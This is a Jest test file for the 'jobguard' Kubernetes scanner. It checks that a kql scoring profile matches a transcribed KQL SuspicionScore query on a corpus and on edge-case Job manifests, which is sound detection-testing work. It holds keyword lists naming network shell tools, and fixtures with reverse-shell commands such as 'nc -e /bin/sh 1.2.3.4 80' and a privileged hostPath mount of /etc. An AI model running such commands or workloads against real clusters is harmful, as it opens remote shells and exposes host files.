/**
 * Parity of the kql profile with the seed query (`jobguard kql` prints it): an independent,
 * deliberately naive re-implementation of its `SuspicionScore`, written here from the query text
 * (lists copied verbatim), is compared with the kql profile's score on every corpus object and on
 * a table of edge cases. It shares no code with src/scoring/kusto.ts on purpose.
 */
import { describe, expect, it } from '@jest/globals';
import { scoreWorkload } from '../src/scoring/score.js';
import { PROFILES } from '../src/scoring/profiles.js';
import type { ActiveRule } from '../src/scoring/types.js';
import { buildWorkload } from '../src/workload/build.js';
import type { KubeObject } from '../src/workload/types.js';
import { loadCorpus } from './corpus/load.js';

// ---- the seed query, transcribed --------------------------------------------------------------
// prettier-ignore
const SuspiciousImages = [
  'alpine', 'busybox', 'ubuntu', 'debian', 'kali',
  'python', 'perl', 'ruby', 'php',
  'ncat', 'netcat', 'nmap', 'masscan',
  'curl', 'wget',
];
// prettier-ignore
const SuspiciousCommands = [
  'curl', 'wget', 'bash -i', '/dev/tcp', 'nc ', 'ncat',
  'python -c', 'perl -e', 'ruby -e',
  'chmod +x', 'base64 -d', 'eval',
  '/bin/sh -c', '/bin/bash -c',
  'mkfifo', 'socat',
];

/** Kusto lowers ASCII letters only. */
function lowerAscii(text: string): string {
  let out = '';
  for (const ch of text) out += ch >= 'A' && ch <= 'Z' ? String.fromCharCode(ch.charCodeAt(0) + 32) : ch;
  return out;
}

const isTermChar = (ch: string | undefined): boolean => ch !== undefined && /^[a-z0-9]$/.test(ch);

/** `L has R`: R occurs in L, not glued to a letter or digit where R itself starts or ends with one. */
function seedHas(body: string, needle: string): boolean {
  const l = lowerAscii(body);
  const r = lowerAscii(needle);
  if (r === '') return false;
  for (let i = 0; i + r.length <= l.length; i++) {
    if (l.slice(i, i + r.length) !== r) continue;
    if (isTermChar(r[0]) && isTermChar(l[i - 1])) continue;
    if (isTermChar(r[r.length - 1]) && isTermChar(l[i + r.length])) continue;
    return true;
  }
  return false;
}

const seedHasAny = (body: string, needles: readonly string[]): boolean =>
  needles.some((n) => seedHas(body, n));
const toint = (b: boolean): number => (b ? 1 : 0);

/** `RequestBody = tostring(AuditLog.requestObject)`: the object as compact JSON. */
function seedFlags(object: unknown): Record<string, boolean> {
  const RequestBody = JSON.stringify(object);
  return {
    IsSuspiciousImage: seedHasAny(RequestBody, SuspiciousImages),
    IsSuspiciousCommand: seedHasAny(RequestBody, SuspiciousCommands),
    IsHostPathMount: seedHas(RequestBody, 'hostPath'),
    IsPrivileged: seedHas(RequestBody, 'privileged'),
    IsHostNetwork: seedHas(RequestBody, 'hostNetwork'),
    IsSensitiveMount: seedHasAny(RequestBody, ['/etc', '/var/run/docker.sock', '/proc', '/sys']),
    IsServiceAccountToken: seedHas(RequestBody, 'automountServiceAccountToken'),
  };
}

function seedScore(object: unknown): number {
  const f = seedFlags(object);
  return (
    toint(f.IsSuspiciousImage!) +
    toint(f.IsSuspiciousCommand!) +
    toint(f.IsHostPathMount!) +
    toint(f.IsPrivileged!) +
    toint(f.IsHostNetwork!) +
    toint(f.IsSensitiveMount!)
  );
}
// ------------------------------------------------------------------------------------------------

const KQL_ACTIVE: ActiveRule[] = PROFILES.kql.rules.map((rule) => ({
  rule,
  weight: rule.weight,
  params: rule.params?.defaults,
}));

function profileScore(object: KubeObject) {
  return scoreWorkload(buildWorkload(object), KQL_ACTIVE);
}

/** The seed column each kql rule reproduces. */
const COLUMNS = new Map(
  PROFILES.kql.rules.map((rule) => [rule.id, (rule as unknown as { column: string }).column]),
);

function firedColumns(object: KubeObject): string[] {
  const fired = new Set(profileScore(object).findings.map((f) => COLUMNS.get(f.rule)));
  return [...fired].filter((c): c is string => c !== undefined).sort();
}

const seedColumns = (object: unknown): string[] =>
  Object.entries(seedFlags(object))
    .filter(([, v]) => v)
    .map(([k]) => k)
    .sort();

const corpus = loadCorpus();

describe('kql profile vs the seed SuspicionScore on the corpus', () => {
  it.each(corpus.map((e) => [e.id, e.object] as const))('%s', (_id, object) => {
    expect(profileScore(object).score).toBe(seedScore(object));
    expect(firedColumns(object)).toEqual(seedColumns(object));
  });
});

const job = (container: Record<string, unknown>, spec: Record<string, unknown> = {}): KubeObject => ({
  apiVersion: 'batch/v1',
  kind: 'Job',
  metadata: { name: 'x' },
  spec: {
    template: {
      spec: {
        containers: [{ name: 'c', image: 'registry.example.com/app:1', ...container }],
        restartPolicy: 'Never',
        ...spec,
      },
    },
  },
});

describe('kql profile vs the seed on edge cases', () => {
  it.each<[string, KubeObject, number]>([
    ['nothing', job({ args: ['serve'] }), 0],
    ['argv /bin/sh -c is invisible to the seed', job({ command: ['/bin/sh', '-c', 'date'] }), 0],
    ['/bin/sh -c inside one string', job({ command: ['sh', '-c', '/bin/sh -c date'] }), 1],
    ['argv nc -e is invisible', job({ command: ['nc', '-e', '/bin/sh', '1.2.3.4', '80'] }), 0],
    ['nc in a string', job({ command: ['sh', '-c', 'nc -e /bin/sh 1.2.3.4 80'] }), 1],
    ['rsync -a is not nc', job({ command: ['sh', '-c', 'rsync -a /a /b'] }), 0],
    ['python3 -c is not python -c', job({ command: ['sh', '-c', 'python3 -c 1'] }), 0],
    ['python -c (and the image word python)', job({ command: ['sh', '-c', 'python -c 1'] }), 2],
    ['privileged: false still counts', job({ securityContext: { privileged: false } }), 1],
    ['hostNetwork: false still counts', job({}, { hostNetwork: false }), 1],
    ['/etcd is not /etc', job({ args: ['--data-dir=/var/lib/etcd'] }), 0],
    [
      '/etc in a ConfigMap mount path counts',
      job({ volumeMounts: [{ name: 'c', mountPath: '/etc/app' }] }),
      1,
    ],
    ['/systemd is not /sys', job({ args: ['/run/systemd'] }), 0],
    ['/dev/tcpdump is not /dev/tcp', job({ command: ['sh', '-c', 'ls /dev/tcpdump'] }), 0],
    ['chmod +xs is not chmod +x', job({ command: ['sh', '-c', 'chmod +xs f'] }), 0],
    ['an image word anywhere counts', job({ env: [{ name: 'MODE', value: 'ubuntu' }] }), 1],
    ['image and command both', job({ image: 'curlimages/curl:8', args: ['curl', 'http://x'] }), 2],
    ['CURL in capitals (image and command lists)', job({ args: ['CURL'] }), 2],
    ['non-ASCII capitals are not folded', job({ args: ['KALİ'] }), 0],
    ['a command after an escaped newline is glued to the n', job({ command: ['sh', '-c', 'a\nwget x'] }), 0],
    [
      'automountServiceAccountToken is reported, not scored',
      job({}, { automountServiceAccountToken: false }),
      0,
    ],
    [
      'Atomic test 2 shape',
      job(
        {
          image: 'busybox:latest',
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'h', mountPath: '/host/etc' }],
        },
        { volumes: [{ name: 'h', hostPath: { path: '/etc' } }] },
      ),
      4,
    ],
  ])('%s', (_name, object, expected) => {
    expect(seedScore(object)).toBe(expected);
    expect(profileScore(object).score).toBe(expected);
    expect(firedColumns(object)).toEqual(seedColumns(object));
  });
});
